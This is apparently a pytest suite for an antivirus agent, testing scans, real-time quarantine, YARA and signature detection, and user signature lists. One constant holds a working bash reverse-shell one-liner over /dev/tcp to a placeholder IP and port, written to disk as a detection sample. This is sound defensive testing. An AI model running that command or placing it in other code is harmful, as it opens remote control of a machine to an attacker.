"""Scans, real-time protection and the detection engines, on temporary trees."""

import os
import time

import records_schema as R
from conftest import EICAR, wait_for

REVERSE_SHELL = b"#!/bin/sh\nbash -i >& " + b"/dev/tcp/10.9.8.7/4444 0>&1\n"


def finished_scan(agent, timeout=60):
    return wait_for(lambda: (lambda s: s if not s["running"] else None)(agent.data("scan.status")), timeout,
                    what="scan to finish")


def make_tree(root, count, size=64):
    for i in range(count):
        sub = os.path.join(root, f"d{i % 10}")
        os.makedirs(sub, exist_ok=True)
        with open(os.path.join(sub, f"f{i}.txt"), "wb") as fh:
            fh.write(os.urandom(size))


class TestQuickScan:
    def test_eicar_found_by_signature_and_yara_and_quarantined(self, agent):
        target = os.path.join(agent.desktop, "sub", "eicar.com")
        os.makedirs(os.path.dirname(target))
        agent.data("settings.set", values={"realtime_enabled": False})
        with open(target, "wb") as fh:
            fh.write(EICAR)
        make_tree(agent.downloads, 30)
        status = agent.data("scan.start", kind="quick")
        assert status["running"] is True and status["kind"] == "quick"
        done = finished_scan(agent)
        R.check(done, R.SCAN)
        assert done["scanned"] >= 31 and done["finished"] >= done["started"]
        threats = [t for t in agent.data("threats") if t.get("path") == target]
        assert {t["kind"] for t in threats} == {"signature", "yara"}
        assert all(t["status"] == "quarantined" for t in threats)
        assert not os.path.exists(target)
        entries = agent.data("quarantine.list")
        assert len(entries) == 1 and entries[0]["original_path"] == target and entries[0]["size"] == len(EICAR)
        vault_bytes = open(entries[0]["vault_path"], "rb").read()
        assert EICAR not in vault_bytes  # obfuscated in the vault
        m = agent.data("metrics.live")
        assert m["engines"]["signature"]["hits"] == 1 and m["engines"]["yara"]["hits"] == 1
        assert m["engine_breakdown"]["signature"]["total"] == 1
        dirs = m["active_scan_dirs"]
        assert set(dirs) == {agent.downloads, agent.desktop, agent.tmp, agent.vartmp, agent.shm}
        assert dirs[agent.desktop]["hits"] == 1 and dirs[agent.downloads]["scanned"] == 30
        assert all("finished" in d for d in dirs.values())
        assert m["files_scanned_since_boot"] >= 31
        summary = agent.data("summary")
        assert summary["quarantined"] == 1 and summary["threats_total"] == 2 and summary["threats_active"] == 0

    def test_yara_heuristic_without_auto_quarantine_stays_detected(self, agent):
        agent.data("settings.set", values={"auto_quarantine": False})
        script = os.path.join(agent.tmp, "run.sh")
        with open(script, "wb") as fh:
            fh.write(REVERSE_SHELL)
        agent.data("scan.start", kind="quick")
        finished_scan(agent)
        threats = [t for t in agent.data("threats") if t.get("path") == script]
        assert [t["kind"] for t in threats] == ["yara"] and threats[0]["status"] == "detected"
        assert threats[0]["signature"] == "Reverse_Shell_OneLiner"
        assert os.path.exists(script)
        assert agent.data("summary")["threats_active"] == 1
        # A second scan does not register the same active threat again.
        agent.data("scan.start", kind="quick")
        finished_scan(agent)
        assert len([t for t in agent.data("threats") if t.get("path") == script]) == 1

    def test_special_files_and_symlink_loops_are_skipped(self, agent):
        agent.data("settings.set", values={"realtime_enabled": False})
        os.mkfifo(os.path.join(agent.downloads, "pipe"))
        os.symlink(agent.downloads, os.path.join(agent.downloads, "loop"))
        os.symlink("/etc/passwd", os.path.join(agent.downloads, "passwd-link"))
        with open(os.path.join(agent.downloads, "plain.txt"), "w") as fh:
            fh.write("hello")
        agent.data("scan.start", kind="quick")
        done = finished_scan(agent, 30)
        assert done["scanned"] == 1

    def test_second_start_is_refused_and_stop_is_prompt(self, agent):
        agent.data("settings.set", values={"realtime_enabled": False})
        make_tree(agent.downloads, 3000, size=2048)
        first = agent.data("scan.start", kind="quick")
        refused = agent.call("scan.start", kind="full")
        assert refused["ok"] is False and "already running" in refused["error"]
        assert agent.data("scan.status")["id"] == first["id"] and agent.data("scan.status")["kind"] == "quick"
        agent.data("scan.stop")
        started = time.monotonic()
        done = finished_scan(agent, 10)
        assert time.monotonic() - started < 5
        assert done["id"] == first["id"] and "finished" in done

    def test_full_scan_skips_missing_locations(self, agent):
        agent.data("settings.set", values={"realtime_enabled": False})
        agent.data("scan.start", kind="full")
        finished_scan(agent, 120)
        dirs = agent.data("metrics.live")["active_scan_dirs"]
        assert list(dirs) == [agent.home, agent.tmp, agent.vartmp, agent.shm]
        started = [e for e in agent.data("events") if e["source"] == "scan" and "started" in e["action"]]
        assert "/Applications" not in started[0]["target"]

    def test_scan_status_survives_restart(self, agent):
        agent.data("settings.set", values={"realtime_enabled": False})
        agent.data("scan.start", kind="quick")
        done = finished_scan(agent)
        agent.stop()
        agent.start()
        again = agent.data("scan.status")
        assert again["id"] == done["id"] and again["running"] is False and again["scanned"] == done["scanned"]


class TestRealtime:
    def test_dropped_eicar_becomes_threat_and_is_quarantined(self, agent):
        target = os.path.join(agent.downloads, "new", "eicar.txt")
        os.makedirs(os.path.dirname(target))
        time.sleep(0.5)  # let the new directory's watch be added
        with open(target, "wb") as fh:
            fh.write(EICAR)
        started = time.monotonic()
        wait_for(lambda: any(e["original_path"] == target for e in agent.data("quarantine.list")), 15,
                 what="real-time quarantine")
        assert time.monotonic() - started < 10
        assert not os.path.exists(target)
        kinds = {t["kind"] for t in agent.data("threats") if t.get("path") == target}
        assert kinds == {"signature", "yara"}

    def test_realtime_off_leaves_new_files_alone(self, agent):
        agent.data("settings.set", values={"realtime_enabled": False})
        target = os.path.join(agent.downloads, "eicar.txt")
        with open(target, "wb") as fh:
            fh.write(EICAR)
        time.sleep(3)
        assert os.path.exists(target) and agent.data("threats") == []

    def test_user_signature_list_is_used(self, home):
        import hashlib
        from conftest import Agent
        a = Agent(home)
        os.makedirs(a.data_dir, exist_ok=True)
        blob = b"harmless content the user wants flagged\n"
        with open(os.path.join(a.data_dir, "signatures.txt"), "w") as fh:
            fh.write(f"# mine\n{hashlib.sha256(blob).hexdigest()} low My-Own-Signature\nnot-a-hash\n")
        a.start()
        try:
            a.data("settings.set", values={"auto_quarantine": False})
            with open(os.path.join(a.downloads, "x.bin"), "wb") as fh:
                fh.write(blob)
            t = wait_for(lambda: a.data("threats"), 15, what="user signature hit")[0]
            assert t["signature"] == "My-Own-Signature" and t["severity"] == "low" and t["kind"] == "signature"
        finally:
            a.stop()
